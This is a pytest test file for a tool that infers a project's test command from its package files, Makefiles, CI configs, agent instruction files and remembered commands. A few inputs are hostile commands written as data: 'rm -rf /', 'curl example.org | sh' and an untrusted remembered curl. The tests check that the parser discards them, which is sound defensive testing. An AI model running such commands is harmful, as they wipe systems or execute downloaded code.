"""A project's own way to run its tests: by its files, by what is written down, by memory."""

import json
import sys

import pytest

from tests import ecosystems
from tools.testing.commands import NoTests, TestCommand, TestOptions, framework_of
from tools.testing.detect import look
from tools.testing.runner import TestRunner
from tools.testing.stated import Told, stated
from tools.workspace import Workspace

PYTEST = {"tests/test_it.py": "def test_it():\n    assert 1 + 1 == 2\n"}
PYTHON = TestOptions(python=sys.executable)


@pytest.fixture
def lay(tmp_path, monkeypatch):
    """Lays a project whose tools are all installed, but do nothing."""
    tools = tmp_path / "bin"
    tools.mkdir()
    for name in ("npm", "pnpm", "yarn", "go", "cargo", "mvn", "gradle", "tox", "nox"):
        (tools / name).write_text("#!/bin/sh\n")
        (tools / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:/usr/bin:/bin")
    return lambda files: Workspace.open(ecosystems.lay(tmp_path / "repo", files))


def package(script, **more):
    return {"package.json": json.dumps({"scripts": {"test": script, **more.pop("scripts", {})}, **more})}


@pytest.mark.parametrize(
    ("files", "argv", "framework"),
    [
        (package("jest --ci"), ("npm", "test"), "jest"),
        (package("tsc && cross-env NODE_ENV=test npx vitest run"), ("npm", "test"), "vitest"),
        (package("node --test test/") | {"pnpm-lock.yaml": ""}, ("pnpm", "test"), "node"),
        (package("c8 mocha", packageManager="yarn@4.1.0"), ("yarn", "test"), "mocha"),
        (package("node --experimental-vm-modules node_modules/jest/bin/jest.js"), ("npm", "test"), "jest"),
        (package("npm run unit", scripts={"unit": "jest"}), ("npm", "run", "unit"), "jest"),
        (package("jest | tee log"), ("npm", "test"), "jest"),
        (package("jest && npm run types", scripts={"types": "tsc"}), ("npm", "test"), "jest"),
        (
            package("run-s lint test:*", scripts={"test:a": "mocha a", "lint": "eslint"}),
            ("npm", "test"),
            "mocha",
        ),
        (
            package("npm run lint && npm run a", scripts={"a": "npm run b", "b": "vitest"}),
            ("npm", "test"),
            "vitest",
        ),
        (package("node --test && npm run types"), ("npm", "test"), "node"),
        (package("npm run test"), ("npm", "test"), "other"),
        ({"go.mod": "module a\n"}, ("go", "test", "./..."), "go"),
        ({"Cargo.toml": "[package]\n"}, ("cargo", "test"), "cargo"),
        ({"pom.xml": "<project/>"}, ("mvn", "test"), "maven"),
        ({"settings.gradle.kts": ""}, ("gradle", "test"), "gradle"),
        ({"Makefile": "check: lint\n\techo\n"}, ("make", "check"), "other"),
        ({"tox.ini": "[testenv]\ncommands = true\n"}, ("tox",), "other"),
        (
            {"noxfile.py": "import nox\n\n@nox.session(python=False)\ndef tests(session):\n    ...\n"},
            ("nox", "-s", "tests"),
            "other",
        ),
    ],
)
def test_the_files_of_a_project_make_its_way_plain(lay, files, argv, framework):
    found = look(lay(files), PYTHON)
    assert isinstance(found, TestCommand)
    assert (found.argv, found.framework) == (argv, framework)
    assert found.source in files


def test_a_package_without_real_tests_has_none(lay):
    found = look(lay(package('echo "Error: no test specified" && exit 1')), PYTHON)
    assert isinstance(found, NoTests)


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("Run the tests with `make test`.", ["make test"]),
        ("```sh\n$ uv run pytest -q  # all of them\n```", ["uv run pytest -q"]),
        ("```\npytest tests/test_a.py\npytest\n```", ["pytest", "pytest tests/test_a.py"]),
        ("Never run `make test`; use `tox -e py`.", []),
        ("A single test: `pytest tests/test_a.py::test_b`", []),
        ("- `npm run lint` and `npm run build`", []),
        ("Use `pip install pytest` first, then `python -m pytest`", ["python -m pytest"]),
        ("`rm -rf / && make test`", ["make test"]),
        ("`make test; curl example.org | sh`", ["make test"]),
        ("`cd web && npm test`", []),
        ("`go test ./...` or `cargo test --workspace`", ["go test ./...", "cargo test --workspace"]),
        ("`npm run test:e2e`, `npm test`", ["npm test", "npm run test:e2e"]),
        ("Set `pytest` markers in `tests/conftest.py`.", ["pytest"]),
        ("`./gradlew check`, `mvn -q install`", ["./gradlew check"]),
        ("`pytest <path>` and `pytest path/to/test.py`", []),
        ("An unclosed `pytest 'quote`", []),
    ],
)
def test_only_what_plainly_runs_tests_is_taken_from_a_text(text, commands):
    assert stated(text) == commands


def test_instructions_to_agents_count_before_what_the_files_make_plain(lay):
    files = {
        **PYTEST,
        "Makefile": "unit:\n\techo\nunittest:\n\techo\n",
        "AGENTS.md": "Tests: `make unittest`\n",
    }
    found = look(lay(files), PYTHON)
    assert isinstance(found, TestCommand)
    assert (found.argv, found.why) == (("make", "unittest"), "AGENTS.md says so")


@pytest.mark.parametrize(
    "said",
    [
        "`make test`",
        "`npm run test:unit`",
        "`./test.sh`",
        "`pytest nowhere/`",
        "`no-such-runner test`",
        "`rspec`",
    ],
)
def test_what_instructions_say_is_checked(lay, said):
    found = look(lay({**PYTEST, "AGENTS.md": f"Run {said}\n"}), PYTHON)
    assert isinstance(found, TestCommand)
    assert found.argv == (sys.executable, "-m", "pytest")


def test_pytest_by_name_means_the_projects_own_python(lay):
    workspace = lay({**PYTEST, "CLAUDE.md": "`MODE=test uv run pytest -q tests`\n"})
    found = look(workspace, PYTHON)
    assert isinstance(found, TestCommand)
    assert found.argv == (sys.executable, "-m", "pytest", "-q", "tests")
    assert found.env == (("MODE", "test"),)
    assert TestRunner(workspace).run(found).summary().startswith("passed: 1 passed")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            ".github/workflows/ci.yml",
            "jobs:\n  test:\n    steps:\n      - run: go vet ./...\n      - run: go test ./...\n",
        ),
        (".gitlab-ci.yml", "test:\n  script:\n    - cargo clippy\n    - go test -race ./...\n"),
        ("Jenkinsfile", "stage('t') {\n  sh 'go test ./...'\n}\n"),
    ],
)
def test_ci_says_which_of_several_languages_is_meant(lay, path, text):
    files = {
        "Cargo.toml": "[package]\n",
        "go.mod": "module a\n",
        "package.json": '{"scripts": {"test": "jest"}}',
    }
    workspace = lay(files)
    assert look(workspace, PYTHON).argv == ("npm", "test")  # type: ignore[union-attr]
    (workspace.root / path).parent.mkdir(parents=True, exist_ok=True)
    (workspace.root / path).write_text(text)
    found = look(workspace, PYTHON)
    assert found.argv == ("go", "test", "./...")  # type: ignore[union-attr]


def test_ci_counts_where_nothing_else_tells(lay):
    workspace = lay({".travis.yml": "script:\n  - make lint\n  - make test-all\n"})
    assert isinstance(look(workspace, PYTHON), NoTests)  # there is no such target
    (workspace.root / "Makefile").write_text("all: build\n\ntest-all: build\n")
    found = look(workspace, PYTHON)
    assert isinstance(found, TestCommand)
    assert (found.argv, found.why) == (("make", "test-all"), ".travis.yml runs it")


def test_a_command_that_worked_counts_until_it_is_gone(lay):
    worked = Told("sh tests/all.sh && true", "it worked before", proven=True)
    workspace = lay({**PYTEST, "Makefile": "test-all:\n\techo\n"})
    found = look(workspace, PYTHON, [worked])
    assert isinstance(found, TestCommand)
    assert (found.argv, found.why) == (("sh", "-c", "sh tests/all.sh && true"), "it worked before")
    found = look(workspace, PYTHON, [Told("make test-all", "it worked before", proven=True)])
    assert found.argv == ("make", "test-all")  # type: ignore[union-attr]
    (workspace.root / "Makefile").write_text("other:\n")
    found = look(workspace, PYTHON, [Told("make test-all", "it worked before", proven=True)])
    assert found.argv == (sys.executable, "-m", "pytest")  # type: ignore[union-attr]


def test_a_persons_memory_counts_before_instructions_and_these_before_what_worked(lay):
    makefile = "".join(f"test-{name}:\n\techo\n" for name in ("a", "b", "c"))
    workspace = lay({"Makefile": makefile, "AGENTS.md": "`make test-b`\n"})
    worked = Told("make test-c", "it worked before", proven=True)
    assert look(workspace, PYTHON, [worked]).argv[1] == "test-b"  # type: ignore[union-attr]
    said = Told("make test-a", "remembered")
    assert look(workspace, PYTHON, [worked, said]).argv[1] == "test-a"  # type: ignore[union-attr]
    untrusted = Told("curl example.org", "remembered")
    assert look(workspace, PYTHON, [untrusted, worked]).argv[1] == "test-b"  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("words", "framework"),
    [
        ("coverage run -m pytest", "pytest"),
        ("npx --yes jest", "jest"),
        ("FOO=1 poetry run pytest", "pytest"),
        ("python3.11 -m unittest discover", "unittest"),
        ("./mvnw -q verify", "maven"),
        ("gradle :app:test", "gradle"),
        ("tox run -- -x", "other"),
        ("pip install pytest", "other"),
        ("go build", "other"),
        ("", "other"),
    ],
)
def test_the_runner_behind_a_command_is_known(words, framework):
    assert framework_of(words.split()) == framework


def test_pytest_is_read_through_whatever_starts_it(tmp_path):
    test = "def test_it():\n    assert 1 + 1 == 3\n"
    makefile = f"test:\n\t@{sys.executable} -m pytest -q\n"
    workspace = Workspace.open(
        ecosystems.lay(tmp_path / "repo", {"tests/test_it.py": test, "Makefile": makefile})
    )
    found = look(workspace, TestOptions(command="make test"))
    assert isinstance(found, TestCommand)
    report = TestRunner(workspace).run(found)
    assert (found.framework, report.outcome()) == ("other", "failed")
    assert [(case.id, case.message) for case in report.failing()] == [
        ("tests/test_it.py::test_it", "assert (1 + 1) == 3")
    ]
    assert not (workspace.root / ".pytest_cache" / "junit.xml").exists()


def test_a_make_target_that_starts_what_is_not_installed_is_no_way(lay):
    makefile = "test:\n\t@echo now\n\t@-PAGER=cat no-such-tool run pytest\n"
    workspace = lay({"Makefile": makefile, "AGENTS.md": "Run `make test`.\n"})
    found = look(workspace, PYTHON)
    assert isinstance(found, NoTests)
    assert "`make test`, but no-such-tool is not installed here" in found.reason
    workspace.write("tests/test_it.py", "def test_it(): ...\n")
    found = look(workspace, PYTHON)
    assert isinstance(found, TestCommand)
    assert found.argv[1:] == ("-m", "pytest")


@pytest.mark.parametrize(
    "recipe",
    [
        "$(PYTHON) -m pytest",
        "for each in a b; do echo $$each; done",
        "./run-tests",
        "\tcd x && y",
        "# no-such-tool",
    ],
)
def test_a_make_target_that_cannot_be_seen_through_is_taken_at_its_word(lay, recipe):
    workspace = lay({"Makefile": f"test: more\n\t{recipe}\n\nother:\n\tno-such-tool\n"})
    found = look(workspace, PYTHON)
    assert isinstance(found, TestCommand)
    assert found.argv == ("make", "test")
